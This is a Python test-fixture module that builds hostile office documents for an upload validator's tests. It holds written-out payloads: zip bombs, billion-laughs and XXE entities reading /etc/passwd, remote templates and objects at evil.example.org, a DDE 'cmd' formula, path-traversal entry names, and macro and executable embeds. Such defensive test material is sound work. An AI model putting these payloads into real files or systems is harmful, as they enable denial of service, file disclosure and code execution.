"""Office documents with programs in them, bombs, and zips that are no documents."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

from clusterkit.testing.factories.files import PDF, archive, docx
from tests.apps.files.hostile.kinds import BOMB, OTHER, PASSWORD, PROGRAMS, REMOTE, Hostile
from tests.apps.files.hostile.strangers import HTML, PROGRAM

WORD = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<document/>"}
SHEET = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}
TEXT = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><x>&c;</x>'
FOREIGN = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
RELATION = (
    '<Relationships><Relationship Id="r1" TargetMode="External" Target="{target}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
)
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def _word(sentence: str = "", **entries: str | bytes) -> Hostile:
    """A DOCX with *entries* besides; a name's ``__`` stands for a slash."""
    return _made({**WORD, **{name.replace("__", "/"): data for name, data in entries.items()}}, sentence)


def _made(entries: Mapping[str, str | bytes], sentence: str = "", name: str = "charter.docx") -> Hostile:
    return Hostile(name, lambda: archive(entries), sentence, "" if sentence else name)


def _relation(kind: str, target: str, sentence: str = "") -> Hostile:
    return _made({**WORD, "word/_rels/settings.xml.rels": RELATION.format(kind=kind, target=target)}, sentence)


def _locked() -> bytes:
    """The mark of a password in the table of the zip."""
    content = bytearray(docx())
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def _with_a_wrong_checksum() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_STORED) as packed:
        for name, data in WORD.items():
            packed.writestr(name, data)
    return content.getvalue().replace(b"<document/>", b"<documenT/>")


def _overlapping() -> bytes:
    """A thousand entries of the table that share the bytes of one."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in WORD.items():
            packed.writestr(name, data)
        packed.writestr("word/a.png", bytes(100_000))
        first = packed.getinfo("word/a.png")
        for number in range(1_000):
            twin = zipfile.ZipInfo(f"word/{number}.png")
            for part in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(twin, part, getattr(first, part))
            packed.filelist.append(twin)
            packed.NameToInfo[twin.filename] = twin
    return content.getvalue()


def _nested_bombs() -> bytes:
    inner = archive({"a.xml": bytes(10_000_000)})
    for _level in range(3):
        inner = archive({f"{number}.zip": inner for number in range(8)})
    return archive({**WORD, "word/embeddings/all.zip": inner})


def _with_two_of_one_name() -> bytes:
    return archive({**WORD, "WORD/DOCUMENT.XML": "<other/>"})


FILES = {
    "docx-that-unpacks-to-20-megabytes": _word(BOMB, word__media__a=bytes(20_000_000)),
    "docx-of-nested-bombs": Hostile("charter.docx", _nested_bombs, PROGRAMS),
    "docx-of-overlapping-entries": Hostile("charter.docx", _overlapping, BOMB),
    "docx-of-6000-entries": _made({**WORD, **{f"word/{number}.png": "" for number in range(6_000)}}, BOMB),
    "docx-with-a-long-table-of-types": _made(
        {**WORD, "[Content_Types].xml": "<Types>" + "<Default/>" * 120_000 + "</Types>"}, BOMB
    ),
    "docx-with-macros": _word(PROGRAMS, **{"word__vbaProject.bin": b"Attribute VB_Name"}),
    "docx-with-macros-in-capitals": _word(PROGRAMS, **{"word__VBAPROJECT.BIN": b"Attribute VB_Name"}),
    "docx-with-macros-called-otherwise": _made(
        {
            **WORD,
            "word/picture.png": b"Attribute VB_Name",
            "word/_rels/document.xml.rels": RELATION.format(kind="vbaProject", target="picture.png").replace(
                "External", ""
            ),
        },
        PROGRAMS,
    ),
    "docx-of-the-type-with-macros": _made(
        {
            **WORD,
            "[Content_Types].xml": f'<Types><Override PartName="/word/document.xml" ContentType="{MACRO_TYPE}"/></Types>',
        },
        PROGRAMS,
    ),
    "docx-with-a-control": _word(PROGRAMS, **{"word__activeX__activeX1.xml": "<x/>"}),
    "docx-with-a-program": _word(PROGRAMS, **{"word__embeddings__setup.EXE": PROGRAM}),
    "docx-with-a-page": _word(PROGRAMS, **{"word__afchunk.mht": HTML}),
    "docx-with-a-zip": _word(PROGRAMS, **{"word__embeddings__a.zip": archive({"a.exe": PROGRAM})}),
    "docx-with-a-remote-template": _relation("attachedTemplate", "https://evil.example.org/t.dotm", REMOTE),
    "docx-with-a-template-in-the-network": _relation("attachedTemplate", r"\\evil.example.org\share\t.dotm", REMOTE),
    "docx-with-a-template-on-a-file-server": _relation("attachedTemplate", "file://evil.example.org/t.dotm", REMOTE),
    "docx-with-a-template-of-five-slashes": _relation("attachedTemplate", "file://///evil.example.org/t.dotm", REMOTE),
    "docx-with-a-remote-template-spelled-otherwise": _relation(
        "attachedTemplate", "&#104;ttp://evil.example.org/", REMOTE
    ),
    "docx-with-a-remote-object": _relation("oleObject", "http://evil.example.org/a.rtf", REMOTE),
    "docx-with-a-remote-frame": _relation(
        "frame", "mhtml:http://evil.example.org/!x-usc:http://evil.example.org/", REMOTE
    ),
    "docx-with-a-template-of-the-author": _relation("attachedTemplate", r"file:///C:\Templates\letter.dotx"),
    "docx-with-a-link": _relation("hyperlink", "https://evil.example.org/"),
    "docx-of-a-billion-laughs": _word(OTHER, **{"word__document.xml": LAUGHS}),
    "docx-that-reads-the-disk": _word(OTHER, **{"word__document.xml": FOREIGN}),
    "docx-that-reads-the-disk-in-utf16": _word(OTHER, **{"word__document.xml": FOREIGN.encode("utf-16")}),
    "docx-that-reads-the-disk-late": _word(
        OTHER, **{"word__document.xml": "<!--" + "x" * 70_000 + "-->" + FOREIGN[21:]}
    ),
    "docx-whose-relations-read-the-disk": _word(OTHER, **{"word___rels__document.xml.rels": FOREIGN}),
    "docx-whose-relations-are-damaged": _word(OTHER, **{"word___rels__document.xml.rels": "<Relationships><"}),
    "docx-locked": Hostile("charter.docx", _locked, PASSWORD),
    "docx-with-a-wrong-checksum": Hostile("charter.docx", _with_a_wrong_checksum, OTHER),
    "docx-that-climbs": _made({**WORD, "../../etc/passwd": "x"}, OTHER),
    "docx-that-climbs-backwards": _made({**WORD, "word\\..\\..\\boot.ini": "x"}, OTHER),
    "docx-with-an-absolute-path": _made({**WORD, "/etc/passwd": "x"}, OTHER),
    "docx-with-a-drive": _made({**WORD, "C:\\boot.ini": "x"}, OTHER),
    "docx-with-a-line-break-in-a-path": _made({**WORD, "word/a\r\nb.png": "x"}, OTHER),
    "docx-with-two-parts-of-one-name": Hostile("charter.docx", _with_two_of_one_name, OTHER),
    "docx-without-a-document": _made({"[Content_Types].xml": "<Types/>", "a.txt": "x"}, OTHER),
    "docx-called-odt": Hostile("charter.odt", docx, OTHER),
    "docx-cut-off": Hostile("charter.docx", lambda: docx()[:-30], OTHER),
    "docx-of-a-pdf-in-a-zip": _made({"charter.pdf": PDF}, OTHER),
    "docx-and-html": Hostile(
        "charter.docx", lambda: docx(f"<!--{HTML.decode()[15:]}-->"), "", "charter.docx", "text/html"
    ),
    "xlsx-that-is-a-zip": _made({"a.csv": "=1+1"}, OTHER, "members.xlsx"),
    "xlsx-that-is-a-docx": Hostile("members.xlsx", docx, OTHER),
    "xlsx-with-macros-of-1992": _made({**SHEET, "xl/macrosheets/sheet1.xml": "<x/>"}, PROGRAMS, "members.xlsx"),
    "xlsx-with-a-formula": _made({**SHEET, "xl/worksheets/sheet1.xml": "<f>cmd|'/C calc'!A0</f>"}, "", "members.xlsx"),
    "odt-with-macros": _made({**TEXT, "Basic/Standard/Module1.xml": "<x/>"}, PROGRAMS, "charter.odt"),
    "odt-with-scripts": _made({**TEXT, "Scripts/python/evil.py": "import os"}, PROGRAMS, "charter.odt"),
    "odt-that-reads-the-disk": _made({**TEXT, "content.xml": FOREIGN}, OTHER, "charter.odt"),
    "odt-locked": _made({**TEXT, "META-INF/manifest.xml": "<m><encryption-data/></m>"}, PASSWORD, "charter.odt"),
    "odt-of-another-type": _made({**TEXT, "mimetype": "application/zip"}, OTHER, "charter.odt"),
    "odt-with-an-old-doctype": _made({**TEXT, "META-INF/manifest.xml": "<!DOCTYPE m><m/>"}, "", "charter.odt"),
}
